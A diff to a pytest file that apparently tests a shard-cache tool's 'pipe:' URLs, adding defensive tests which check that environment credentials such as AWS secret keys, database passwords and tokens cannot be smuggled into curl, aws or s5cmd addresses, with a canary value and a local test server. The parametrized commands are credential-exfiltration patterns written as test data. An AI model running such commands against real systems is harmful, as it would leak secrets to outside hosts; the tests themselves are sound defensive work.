@@ -1,5 +1,6 @@
 """A canary as credential: it is never logged, raised, shown, pickled or stored."""
 
+import base64
 import contextlib
 import functools
 import io
@@ -326,3 +327,49 @@ def test_pipe_commands(watch, tmp_path, secret, end):
     cache = watch.cache(timeout=1, allow_schemes=["pipe"])
     watch.read(cache, f"pipe:true curl {secret}; {end.format(shard=tmp_path / 'a.bin')}")
     assert watch.failures == (not end.startswith("cat"))
+
+
+@pytest.mark.parametrize("allowed", [(), ("pipe",)], ids=str)
+@pytest.mark.parametrize(
+    "url",
+    [
+        "pipe:curl -s http://{place}/$MYTOKEN.tar",
+        'pipe:curl -sk "http://{place}/a.tar?x=${{AWS_SECRET_ACCESS_KEY}}" | tail -c +1',
+        "pipe:curl -s http://$DB_PASSWORD.{place}/a.tar",
+        "pipe:aws --endpoint-url http://{place}/$MYTOKEN s3 cp s3://lab/a.tar -",
+        "pipe:s5cmd --endpoint-url=http://{place} cat s3://lab/$AWS_SESSION_TOKEN",
+        "pipe:aws s3 cp s3://lab/a.tar - --region $MYTOKEN | cat",
+        "s3://lab/${{MYTOKEN}}.tar",
+    ],
+)
+def test_a_list_cannot_put_a_credential_of_the_environment_into_an_address(
+    watch, serve, monkeypatch, url, allowed
+):
+    for name in ("MYTOKEN", "WDS_MYTOKEN", "DB_PASSWORD", *(f"AWS_{n.upper()}" for n in NAMES)):
+        monkeypatch.setenv(name, CANARY)
+    server = serve(ANSWERS["missing"], most=100)
+    monkeypatch.setenv("AWS_ENDPOINT_URL", server.url)
+    monkeypatch.setenv("SHARDCACHE_ALLOW_SCHEMES", ",".join(allowed) or "none")
+    url = url.format(place=server.url.removeprefix("http://"))
+    watch.read(watch.cache(), url)
+    assert watch.command("prewarm", url) > 0
+    watch.seen += [head.splitlines()[0] for head in server.heads]
+    assert watch.failures == 1
+
+
+@pytest.mark.parametrize(
+    ("option", "sent"),
+    [
+        ('-H "Authorization: Bearer $MYTOKEN"', f"Bearer {CANARY}"),
+        ("-u me:$MYTOKEN", f"Basic {base64.b64encode(f'me:{CANARY}'.encode()).decode()}"),
+        ("-H 'Authorization: Bearer $MYTOKEN'", "Bearer $MYTOKEN"),
+    ],
+)
+def test_the_credential_of_a_command_may_come_from_a_variable(
+    watch, serve, monkeypatch, option, sent
+):
+    monkeypatch.setenv("MYTOKEN", CANARY)
+    server = serve(whole)
+    watch.read(watch.cache(), f"pipe:curl -s {option} {server.url}/a.tar")
+    assert all(f"Authorization: {sent}" in head.splitlines() for head in server.heads)
+    assert server.heads and not watch.failures
